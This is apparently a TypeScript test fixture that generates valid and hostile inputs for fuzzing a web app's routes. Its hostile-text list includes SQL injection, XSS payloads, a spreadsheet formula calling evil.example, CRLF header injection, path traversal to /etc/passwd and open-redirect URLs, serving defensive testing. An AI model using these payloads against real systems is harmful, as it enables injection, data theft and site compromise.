/** Values for a route's input: plain ones that fit its schema, and hostile ones. */
import { questionIds } from '#src/features/maturity-assessment/questions/answers.ts';
import { weekdayAhead } from '#tests/fixtures/weekday-ahead.ts';
import type { Random } from '#tests/bench/random.ts';
import type { InputSchema } from './routes.ts';

/** A word that must never appear as markup or in a header; `check-response.ts` looks for it. */
export const canary = 'lv7canary';

/** A valid id of no object. */
export const anyUuid = '11111111-1111-4111-8111-111111111111';

/** Valid values by field name, for rules that a JSON schema doesn't have. */
const plainValues: Record<string, unknown> = {
  name: 'Dana Reyes',
  firstName: 'Dana',
  lastName: 'Reyes',
  contactName: 'Dana Reyes',
  title: 'City Manager',
  jobTitle: 'City Manager',
  agency: 'City of Port Amelie',
  agencyName: 'City of Port Amelie',
  legalName: 'City of Port Amelie',
  street: '1 Levee Road',
  city: 'Port Amelie',
  state: 'LA',
  zip: '70112',
  phone: '(504) 555-0100',
  poNumber: 'PO-4711',
  preferredDate: `${weekdayAhead()}T12:00:00.000Z`,
  preferredTime: '10:00',
  timeZone: 'America/New_York',
  notes: 'We would like to see the inventory.',
  password: 'Levee holds 2 rivers',
  currentPassword: 'Levee holds 2 rivers',
  newPassword: 'Levee holds 3 rivers',
  agreeToTerms: true,
  message: 'What does the workspace cost?',
  answers: Object.fromEntries(questionIds.map((id) => [id, 3])),
  priceId: 'small-rural-yearly',
  isSubscription: true,
  subscription: 'sub_none',
  day: '2026-11-20',
  code: '123456',
  token: 'a'.repeat(43),
  sessionId: anyUuid,
  elapsedMs: 5_000,
};

/** An input that fits the schema and is mostly valid. */
export function plainInput(random: Random, schema: InputSchema): Record<string, unknown> {
  const value = valueOf(random, schema);
  return typeof value === 'object' && value !== null ? { ...value } : {};
}

/** A value that fits a schema; a known field name has its usual value. */
function valueOf(random: Random, schema: InputSchema, name = ''): unknown {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return random.pick(schema.enum);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices && !schema.properties) return valueOf(random, random.pick(choices), name);
  if (schema.allOf)
    return Object.assign({}, ...schema.allOf.map((part) => valueOf(random, part, name))) as unknown;
  if (schema.properties) {
    const required = new Set(schema.required);
    return Object.fromEntries(
      Object.entries(schema.properties)
        .filter(([key]) => required.has(key) || random.chance(0.6))
        .map(([key, property]) => [key, valueOf(random, property, key)]),
    );
  }
  if (/email/i.test(name)) return `visitor${random.below(1e6)}@city.example`;
  if (name in plainValues) return plainValues[name];
  if (schema.format === 'uuid' || schema.format === 'guid' || /id$/i.test(name)) return anyUuid;
  if (schema.format === 'date-time') return new Date().toISOString();
  if (schema.type === 'number' || schema.type === 'integer') return random.below(10_000);
  if (schema.type === 'boolean') return random.chance(0.5);
  if (schema.type === 'array') return [valueOf(random, schema.items ?? {}, name)];
  if (schema.type === 'object') return {};
  return 'Plain words';
}

/** Texts that have broken this or other sites. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\u0000\u0001\u001f\u007f',
  '\ud800',
  '\udfff\ud800',
  '\u202e\ufeff\u2028\u2029',
  'é'.normalize('NFD'),
  '👩‍👩‍👧‍👦'.repeat(40),
  'ﷺ'.repeat(400),
  `'; drop table demo_bookings; --${canary}`,
  `' or '1'='1`,
  '$1 $2 %s ${x} {{x}} %BODY% %TITLE% $& $`',
  `<script>${canary}</script>`,
  `"><img src=x onerror=${canary}>`,
  `' onfocus=${canary} autofocus='`,
  `javascript:${canary}`,
  `=HYPERLINK("https://evil.example/${canary}";"x")`,
  '+1+1|cmd',
  `a\r\nBcc: b@c.example\r\nx-${canary}: 1`,
  `a@b.example\r\nset-cookie: ${canary}=1`,
  'x'.repeat(50_000),
  'a'.repeat(254) + '@city.example',
  `${'a'.repeat(64)}@${'b'.repeat(190)}.example`,
  `"a b"@city.example`,
  'a@b.example,c@d.example',
  'dana@xn--80ak6aa92e.example',
  `dana@city.example${' '.repeat(9_000)}`,
  '../../../../etc/passwd',
  String.raw`..\..\secret`,
  '%2e%2e%2f%00',
  'https://evil.example/login',
  '//evil.example',
  '/\\evil.example',
  '-1e309',
  'NaN',
  '9'.repeat(400),
  '2026-02-30T99:99:99Z',
  '+275760-09-13T00:00:00.001Z',
  '0000-00-00',
  '__proto__',
  'constructor',
  String.raw`\u0000`,
  'null',
  'undefined',
  '[object Object]',
  'Etc/GMT+99',
  '../America/Chicago',
  '1'.repeat(43),
  'cs_test_../../refunds',
  '*',
  '%',
];

/** A value of any type. */
export function hostileValue(random: Random): unknown {
  return random.pick<() => unknown>([
    () => random.pick(hostileTexts),
    () => random.pick(hostileTexts),
    () => random.pick(hostileTexts),
    () => null,
    () => random.chance(0.5),
    () => random.pick([0, -0, -1, 0.1, 1e308, 2 ** 53, Number.MIN_VALUE]),
    () => [],
    () => [random.pick(hostileTexts), null, {}],
    () => Array.from({ length: 5_000 }, () => 1),
    () => ({ toString: 'x', valueOf: 1, then: 'y', length: -1 }),
    () => nest(random, 200),
    () => ({ [random.pick(hostileTexts)]: random.pick(hostileTexts) }),
  ])();
}

function nest(random: Random, depth: number): unknown {
  let value: unknown = random.pick(hostileTexts);
  for (let n = 0; n < depth; n += 1) value = random.chance(0.5) ? [value] : { a: value };
  return value;
}
